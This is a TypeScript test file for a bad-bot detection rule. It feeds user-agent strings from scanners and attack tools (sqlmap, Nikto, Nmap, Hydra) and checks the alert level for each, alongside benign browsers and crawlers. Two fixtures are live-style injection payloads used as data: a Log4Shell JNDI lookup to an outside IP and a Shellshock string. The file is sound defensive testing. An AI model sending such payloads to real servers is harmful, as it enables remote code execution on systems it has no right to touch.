import { HOUR } from "../../../lib/base/duration.ts";
import { badBot } from "../../../lib/detection/rules/bad_bot.ts";
import { holdsTo, spread } from "./_table.ts";

const HOURLONG: [number, number] = [0, HOUR - 1];
const by = (user_agent: string | null, count = 1) =>
  spread(count, HOURLONG, { user_agent });

holdsTo(badBot(), {
  "sqlmap": [by("sqlmap/1.7.2#stable (https://sqlmap.org)"), "warning"],
  "Nikto": [
    by("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
    "warning",
  ],
  "Nmap": [
    by(
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    "warning",
  ],
  "masscan": [by("masscan/1.3 (https://github.com/x/masscan)"), "warning"],
  "zgrab": [by("Mozilla/5.0 zgrab/0.x"), "warning"],
  "Nuclei": [by("Nuclei - Open-source project (nuclei.example)"), "warning"],
  "WPScan": [by("WPScan v3.8.22 (https://wpscan.com/)"), "warning"],
  "Hydra": [by("Mozilla/4.0 (Hydra)"), "warning"],
  "gobuster": [by("gobuster/3.6"), "warning"],
  "ffuf": [by("Fuzz Faster U Fool v2.0.0"), "warning"],
  "Log4Shell in place of a name": [
    by("${jndi:ldap://203.0.113.5/a}"),
    "warning",
  ],
  "Shellshock in place of a name": [by("() { :; }; /bin/ls"), "warning"],
  "20 requests of sqlmap": [by("sqlmap/1.7", 20), "warning"],
  "21 requests of sqlmap": [by("sqlmap/1.7", 21), "critical"],
  "31 requests without a name": [by(null, 31), "info"],
  "31 requests of a script": [by("python-requests/2.31.0", 31), "info"],
  "31 requests of curl and of wget": [
    [...by("curl/8.5.0", 16), ...by("Wget/1.21", 15)],
    "info",
  ],
  "30 requests without a name": [by("-", 30), null],
  "30 requests of a script": [by("Go-http-client/1.1", 30), null],
  "31 without a name over two hours": [
    spread(31, [-HOUR + 1, HOUR - 1], { user_agent: null }),
    null,
  ],
  "Chrome": [
    by(
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
      1_000,
    ),
    null,
  ],
  "Firefox": [
    by("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101", 1_000),
    null,
  ],
  "Safari on a telephone": [
    by("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)", 1_000),
    null,
  ],
  "Googlebot": [
    by(
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      1_000,
    ),
    null,
  ],
  "a feed reader": [by("Tiny Tiny RSS/1.11 (http://tt-rss.org/)", 99), null],
  "an archive": [
    by(
      "Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)",
      500,
    ),
    null,
  ],
  "a text browser": [by("Links (2.7; CYGWIN_NT-5.1; text)", 99), null],
  "a monitor": [by("UptimeRobot/2.0", 99), null],
  "a package manager": [by("Chef Client/10.18.2 (ruby-1.9.3)", 99), null],
  "one look with curl": [by("curl/7.88.1"), null],
  "what our blocklist refused": [
    spread(50, HOURLONG, {
      user_agent: "sqlmap/1.7",
      status: 403,
      outcome: "blocked",
    }),
    null,
  ],
  "an islander": [by("Hydrant/1.0 (harbour of Nikosia)"), null],
});
